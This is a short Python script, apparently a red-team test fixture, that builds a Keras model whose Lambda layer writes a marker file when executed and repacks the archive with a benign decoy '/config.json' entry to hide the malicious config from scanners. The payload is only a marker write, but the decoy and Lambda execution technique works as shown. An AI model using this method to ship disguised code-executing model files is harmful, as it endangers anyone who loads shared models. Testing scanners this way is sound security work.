"""Builds a Keras v3 model whose Lambda writes MARKER, then repacks it with a config.json decoy.

Usage (KERAS_BACKEND=torch): python redteam_keras_builder.py OUT.keras MARKER
The repacked archive keeps the malicious config under the exact name `config.json` (what
keras/zipfile read) with its keys reversed, and appends a benign `/config.json` decoy.
"""
import json
import os
import sys
import zipfile

os.environ.setdefault("KERAS_BACKEND", "torch")
import keras  # noqa: E402

out, marker = sys.argv[1], sys.argv[2]
inp = keras.Input((4,))
fn = eval(f"lambda x: (open({marker!r}, 'w').write('pwned'), x)[1]")  # noqa: S307 - test fixture
evil = keras.Model(inp, keras.layers.Lambda(fn, output_shape=(4,))(inp))
plain = out + ".plain.keras"
evil.save(plain)
benign = keras.Sequential([keras.Input((4,)), keras.layers.Dense(1)])
with zipfile.ZipFile(plain) as src, zipfile.ZipFile(out, "w") as dst:
    for info in src.infolist():
        data = src.read(info)
        if info.filename == "config.json":
            data = json.dumps(dict(reversed(list(json.loads(data).items())))).encode()
        dst.writestr(info.filename, data)
    dst.writestr("/config.json", benign.to_json())
os.remove(plain)
if os.path.exists(marker):
    os.remove(marker)
print("built")
